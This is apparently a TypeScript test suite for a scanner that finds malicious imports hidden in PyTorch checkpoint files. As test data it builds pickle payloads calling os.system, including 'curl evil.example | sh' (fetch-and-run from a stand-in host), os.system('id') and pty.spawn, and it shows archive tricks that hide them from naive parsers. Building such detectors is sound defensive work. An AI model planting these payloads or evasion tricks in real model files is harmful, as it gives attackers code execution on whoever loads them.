import assert from 'node:assert/strict';
import { createSafetensors } from '../../../server/src/checkpoint/createCheckpoint';
import { inspectCode } from '../../../server/src/checkpoint/inspectCode';
import { limits } from '../../../server/src/checkpoint/limits';
import { cpythonImports, fixture, fixtureNames } from './fixtureFiles';
import * as asm from './pickleAssembler';
import { rawZip } from './zipAssembler';

/** `module.name(arguments)` of each import, with the entry. */
function imports(bytes: Uint8Array): string[] {
  return inspectCode(bytes, 'f').globals.map(
    ({ module, name, called, argumentsText, entry }) =>
      `${module}.${name}${called ? `(${argumentsText ?? ''})` : ''} in ${entry}`,
  );
}

function reasons(bytes: Uint8Array): string[] {
  return inspectCode(bytes, 'f').anomalies.map(({ reason }) => reason);
}

/** One ustar member. */
function tarMember(name: string, data: Uint8Array): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write(data.length.toString(8).padStart(11, '0'), 124);
  header.fill(' ', 148, 156);
  header.write(
    `${header
      .reduce((sum, byte) => sum + byte, 0)
      .toString(8)
      .padStart(6, '0')}\0 `,
    148,
  );
  return Buffer.concat([header, data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
}

const systemText = 'os.system("curl evil.example | sh")';
const statePickle = asm.bytesOf(
  asm.proto(2),
  asm.global('collections', 'OrderedDict'),
  asm.emptyTuple,
  asm.reduce,
  asm.stop,
);
const inArchive = (pickle: Uint8Array) =>
  rawZip([
    { name: 'a/data.pkl', data: pickle },
    { name: 'a/version', data: '3\n' },
  ]);

describe('inspectCode', () => {
  it('finds no anomalies in files of PyTorch, whatever their format', () => {
    for (const name of fixtureNames) {
      const { anomalies, inspected, globals } = inspectCode(fixture(name), name);
      assert.deepEqual(anomalies, [], name);
      assert.equal(inspected, true);
      assert.ok(globals.length > 0, name);
    }
  });

  it('names the entry and the byte of a payload in an archive', () => {
    const [found] = inspectCode(inArchive(asm.systemCall), 'f').globals;
    assert.deepEqual(found, {
      ...{ module: 'os', name: 'system', entry: 'a/data.pkl', offset: 2, called: true },
      argumentsText: '"curl evil.example | sh"',
    });
  });

  it('looks into plain pickles of every protocol, with and without a signature', () => {
    assert.deepEqual(imports(asm.systemCall), [`${systemText} in `]);
    assert.deepEqual(imports(Buffer.from("cos\nsystem\n(S'id'\ntR.")), ['os.system("id") in ']);
    assert.deepEqual(imports(Buffer.from("(S'id'\nios\nsystem\n.")), ['os.system("id") in ']);
  });

  it('looks into all five pickles of the legacy format', () => {
    const legacy = Buffer.from(fixture('legacy.pt'));
    const main = legacy.indexOf('ccollections\nOrderedDict\n');
    const payload = asm.bytesOf(asm.callWithText('os', 'system', 'id'), asm.op('POP'));
    assert.ok(
      imports(Buffer.concat([legacy.subarray(0, main), payload, legacy.subarray(main)]))[0].startsWith(
        'os.system("id")',
      ),
    );
  });

  it('looks into what comes instead of the legacy magic number', () => {
    assert.deepEqual(imports(asm.bytesOf(asm.systemCall, fixture('legacy.pt')))[0], `${systemText} in `);
  });

  it('looks into the tar archives that PyTorch still unpickles', () => {
    const tar = Buffer.concat([
      tarMember('storages', asm.bytesOf(asm.proto(2), 'K\x00.')),
      tarMember('pickle', asm.systemCall),
      Buffer.alloc(1024),
    ]);
    assert.deepEqual(imports(tar), [`${systemText} in pickle`]);
    const raw = Buffer.concat([tarMember('storages', asm.bytesOf('raw numbers', asm.systemCall)), Buffer.alloc(1024)]);
    assert.deepEqual(imports(raw), [`${systemText} in storages`]);
  });

  it('looks into every pickle of an archive, whatever its name', () => {
    const zip = rawZip([
      { name: 'a/data.pkl', data: statePickle },
      { name: 'a/constants.pkl', data: asm.bytesOf('(', asm.text('id'), 'ios\nsystem\n.') },
      { name: 'a/config.bin', data: asm.systemCall },
      { name: 'a/code/model.py', data: 'class Model(Module):\n  pass\n' },
    ]);
    assert.deepEqual(imports(zip).slice(1), ['os.system("id") in a/constants.pkl', `${systemText} in a/config.bin`]);
  });

  it('looks into archives and streams inside byte strings, and says where', () => {
    const load = asm.stream(
      asm.global('torch.storage', '_load_from_bytes'),
      asm.binaryBytes(inArchive(asm.systemCall)),
      asm.op('TUPLE1'),
      asm.reduce,
    );
    assert.match(imports(load)[1], /^os\.system\(.*\) in bytes at 34 > a\/data\.pkl$/);
    const nested = asm.stream(asm.text(Buffer.from(asm.systemCall).toString('latin1')));
    assert.match(imports(nested)[0], /^os\.system\(.*\) in bytes at 2$/);
  });

  it('sees every import of CPython in random streams, and breaks off none that CPython loads', () => {
    assert.ok(cpythonImports.length >= 300);
    for (const { stream, imports: names, loads } of cpythonImports) {
      const { globals, anomalies } = inspectCode(Buffer.from(stream, 'base64'), 'f');
      const seen = new Set(globals.map(({ module, name }) => `${module} ${name}`));
      for (const [module, name] of names) assert.ok(seen.has(`${module} ${name}`), `${module}.${name} of ${stream}`);
      if (loads) assert.ok(!anomalies.some(({ reason }) => reason.includes('cannot be followed')), stream);
    }
  });

  it('goes on to streams that follow the first', () => {
    assert.deepEqual(imports(asm.bytesOf(statePickle, asm.systemCall))[1], `${systemText} in `);
    const archive = inArchive(asm.bytesOf(statePickle, asm.systemCall));
    assert.equal(imports(archive)[1], `${systemText} in a/data.pkl`);
    assert.match(reasons(archive)[0], /bytes follow the end of the pickle/);
    const hidden = inArchive(asm.bytesOf(statePickle, 'not a pickle', asm.systemCall));
    assert.match(imports(hidden)[1], /^os\.system.* in a\/data\.pkl > bytes at \d+$/);
  });

  it('reports what came before a stream broke, and skims what follows', () => {
    const broken = asm.bytesOf(
      asm.proto(4),
      asm.callWithText('os', 'system', 'id'),
      asm.op('BINGET', 99),
      asm.stackGlobal('pty', 'spawn'),
      0xff,
    );
    assert.deepEqual(imports(broken), ['os.system("id") in ', 'pty.spawn in ']);
    assert.match(reasons(broken)[0], /cannot be followed from here \(memo key 99 was never set\)/);
    assert.deepEqual(
      imports(inArchive(broken)).map((text) => text.split(' ')[0]),
      ['os.system("id")', 'pty.spawn'],
    );
  });

  it('reports payloads of archives that only PyTorch opens', () => {
    const tricks = [
      rawZip([{ name: 'a/data.pkl', data: asm.systemCall, crc: 1 }]),
      rawZip([{ name: 'a/data.pkl', localName: 'a/data.txt', data: asm.systemCall }]),
      rawZip([{ name: 'a/data.pkl', data: asm.systemCall, localFlags: 1 }]),
      rawZip([
        { name: 'a/data.pkl', data: asm.systemCall, deflate: true },
        { name: 'a/data.pkl', data: statePickle },
      ]),
      rawZip([
        { name: 'a/data.pkl', data: statePickle },
        { name: 'a/DATA.PKL', data: asm.systemCall },
      ]),
    ];
    for (const trick of tricks) assert.ok(imports(trick).some((text) => text.startsWith(systemText)));
    for (const trick of tricks) assert.ok(reasons(trick).length > 0);
  });

  it('takes a file with bytes before the archive for a pickle, as PyTorch does', () => {
    const polyglot = asm.bytesOf(asm.systemCall, inArchive(statePickle));
    assert.equal(imports(polyglot)[0], `${systemText} in `);
    assert.ok(reasons(polyglot).some((reason) => /bytes before the archive/.test(reason)));
  });

  it('finds streams in bytes that belong to no entry', () => {
    const hidden = rawZip([{ name: 'a/data.pkl', data: statePickle }], { suffix: asm.systemCall });
    assert.match(imports(hidden)[1], /^os\.system.* in bytes at \d+$/);
  });

  it('finds streams in an archive that was cut off', () => {
    const whole = inArchive(asm.systemCall);
    const cut = whole.subarray(0, whole.length - 10);
    assert.ok(imports(cut)[0].startsWith(systemText));
    assert.match(reasons(cut)[0], /truncated/);
  });

  it('has nothing to say about safetensors', () => {
    const bytes = createSafetensors([{ name: 'w', dtype: 'float32', shape: [1], values: [1] }]);
    assert.deepEqual(inspectCode(bytes, 'f'), { globals: [], anomalies: [], mentions: [], inspected: true });
  });

  it('says that it cannot judge what is no known format', () => {
    for (const bytes of [
      Buffer.from('hello, this is text'),
      Buffer.from('\x08\x07\x12\x07pytorch'),
      Buffer.alloc(100, 0xff),
    ]) {
      assert.deepEqual(inspectCode(bytes, 'f'), { globals: [], anomalies: [], mentions: [], inspected: false });
    }
    assert.equal(inspectCode(new Uint8Array(), 'f').inspected, false);
  });

  it('takes no chance signature in weights for an archive', () => {
    const weights = asm.bytesOf(Buffer.alloc(100, 1), 'PK\x05\x06', Buffer.alloc(100, 2));
    const zip = rawZip([
      { name: 'a/data.pkl', data: statePickle },
      { name: 'a/data/0', data: weights },
    ]);
    assert.deepEqual(reasons(zip), []);
    assert.deepEqual(reasons(asm.bytesOf(asm.stream(asm.binaryBytes(weights)))), []);
  });

  it('ends on streams nested without end and on decoys in great number', () => {
    let nested = asm.systemCall;
    for (let depth = 0; depth < limits.nesting + 2; depth++) nested = asm.stream(asm.binaryBytes(nested));
    assert.ok(reasons(nested).some((reason) => /nested deeper/.test(reason)));
    const decoys = asm.bytesOf(statePickle, ...Array<Uint8Array>(limits.embeddedStreams + 10).fill(asm.stream('N')));
    assert.ok(reasons(decoys).some((reason) => /more streams than are followed/.test(reason)));
  });

  it('says so where a stream is longer than is followed', () => {
    const long = asm.bytesOf(Buffer.alloc(2 * limits.pickleOperations, 'N0'), asm.global('os', 'system'), '.');
    assert.match(reasons(long)[0], /more opcodes than are followed/);
    assert.deepEqual(imports(long), ['os.system in ']);
  });
});
